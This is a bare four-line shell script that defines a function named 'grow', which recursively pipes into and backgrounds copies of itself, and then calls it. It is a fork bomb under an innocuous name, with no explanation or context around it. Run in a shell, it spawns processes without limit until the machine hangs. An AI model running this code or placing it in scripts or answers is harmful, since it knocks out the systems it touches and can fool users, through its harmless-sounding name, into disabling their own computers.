grow() {
  grow | grow &
}
grow
